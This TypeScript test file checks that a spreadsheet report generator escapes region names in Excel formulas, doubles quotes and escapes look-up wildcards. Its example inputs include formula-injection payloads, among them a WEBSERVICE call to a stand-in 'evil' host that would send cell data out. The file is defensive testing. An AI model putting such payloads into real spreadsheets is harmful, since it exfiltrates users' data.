import fc from 'fast-check';
import { expect, it } from 'vitest';
import { DEFAULT_SETTINGS } from '../../src/assessment/settings';
import type { Plan, Target } from '../../src/plan/schema';
import { lookupReference, lookupText, quotedText } from '../../src/report/formulaText';
import { makeReport, REPORT_KINDS } from '../../src/report/makeReport';
import type { ReportRequest } from '../../src/report/parts/reportContext';
import type { SheetModel } from '../../src/report/sheetModel';
import { formulaTokens } from '../../src/xlsx/formulaTokens';
import { writeXlsx } from '../../src/xlsx/writeXlsx';
import { of } from '../assessment/observations';
import { bare } from '../xlsx/bare';
import { LIBREOFFICE_TIMEOUT, shownByLibreOffice } from '../xlsx/libreOffice';
import { tablePlace } from './liveReport';

const target = (rest: Partial<Target>): Target => ({
  kind: 'level',
  comparator: '=',
  value: 300,
  period: '2025',
  places: [{ section: '一', words: '目标' }],
  ...rest,
});

/** Invented: a level and yearly sums, each drawn and forecast, of the plan's own region and of another. */
function contextOf(own: string, other: string): ReportRequest {
  const plan: Plan = {
    id: 'named-2021-2025',
    title: '规划',
    issuer: '某局',
    region: own,
    start: '2021',
    end: '2025',
    source: '虚构',
    indicators: [
      {
        number: 1,
        name: '企业',
        unit: '家',
        measure: 'stock',
        direction: 'up',
        category: '主体',
        lead: ['甲局'],
        baseline: { period: '2020', value: 200 },
        targets: [target({})],
      },
      {
        number: 2,
        name: '人才',
        unit: '名',
        measure: 'flow',
        direction: 'up',
        category: '环境',
        lead: ['甲局', '乙局'],
        targets: [target({ kind: 'annual-increment', value: 24, from: '2021' })],
      },
    ],
  };
  const observations = Array.from({ length: 8 }, (_, index) => {
    const period = `2023-0${index + 1}`;
    return [own, other].flatMap((region, at) => [
      of(1, period, 240 + index * (at + 1) + (index % 2), { region }),
      of(2, period, 1 + at + (index % 2), { region }),
    ]);
  }).flat();
  return {
    plan,
    observations,
    period: '2023-08',
    settings: DEFAULT_SETTINGS,
    mode: 'policy',
    language: 'zh',
    charts: ['1', '2'],
  };
}

/** All formulas of a report of every kind, split into tokens. */
function formulasOf(context: ReportRequest) {
  return REPORT_KINDS.flatMap((kind) =>
    (['policy', 'native'] as const).flatMap((mode) =>
      makeReport(kind, { ...context, mode, ...(kind === 'annual' && { period: '2023' }) }).sheets.flatMap(
        ({ blocks }) =>
          blocks
            .flatMap(({ cells }) => cells.flat())
            .flatMap((cell) => (typeof cell === 'object' && cell !== null ? [cell.formula] : [])),
      ),
    ),
  ).map(formulaTokens);
}

const outsideTexts = (formulas: ReturnType<typeof formulasOf>) =>
  formulas.map((tokens) => tokens.map(({ kind, text }) => (kind === 'text' ? '""' : text)).join(''));

const PLAIN = outsideTexts(formulasOf(contextOf('甲区', '乙镇')));

const nasty = fc
  .array(
    fc.constantFrom('"', '""', '[', ']', "'", '#', '@', '=', '*', '?', '~', '&', '(', ',', '!', '镇', 'A1'),
    {
      minLength: 1,
      maxLength: 8,
    },
  )
  .map((parts) => parts.join(''));

it('keeps whatever a region is called within the texts of its formulas', () => {
  fc.assert(
    fc.property(nasty, nasty, (own, other) => {
      fc.pre(own !== other);
      expect(outsideTexts(formulasOf(contextOf(own, other)))).toEqual(PLAIN);
    }),
    {
      numRuns: 10,
      examples: [
        ['"&WEBSERVICE("http://evil"&A1)&"', '=HYPERLINK("x")'],
        ['甲区', '"&WEBSERVICE("http://evil"&A1)&"'],
      ],
    },
  );
});

it('doubles the quotes of a text, and escapes what look-ups take for patterns', () => {
  expect(quotedText('a "b" *')).toBe('"a ""b"" *"');
  // Microsoft, "Using wildcard characters in searches": ~ before ?, * or ~ finds the character itself.
  expect(lookupText('某镇*"?~')).toBe('"某镇~*""~?~~"');
  expect(lookupReference('A1')).toBe('SUBSTITUTE(SUBSTITUTE(SUBSTITUTE(A1,"~","~~"),"*","~*"),"?","~?")');
});

it('reads the row of 某镇* and not that of 某镇甲 before it, as LibreOffice works it out', {
  timeout: 3 * LIBREOFFICE_TIMEOUT,
}, async () => {
  const marked = contextOf('某镇甲', '某镇*');
  const shown = async (mode: 'native' | 'values', first: number) => {
    const { sheets } = makeReport('monthly', { ...marked, mode });
    const sheet = sheets[first] as SheetModel;
    return shownByLibreOffice(await writeXlsx(bare([sheet, ...sheets.filter((one) => one !== sheet)])));
  };
  const withoutFoot = (cells: string[][]) => cells.filter(([first]) => !first?.startsWith('规划：'));
  for (const first of [0, 1]) {
    expect(withoutFoot(await shown('native', first))).toEqual(withoutFoot(await shown('values', first)));
  }
  // By hand: 1 + 1 and in every other month one more makes 20 in eight months, against 12 of the plan's own region.
  const [, , , , data] = makeReport('monthly', { ...marked, mode: 'native' }).sheets as SheetModel[];
  const place = tablePlace(data as SheetModel);
  const cells = await shown('native', 4);
  expect(cells[place.row('查找键', '2|某镇*|2023-08')]?.[place.column('本年累计')]).toBe('20');
});
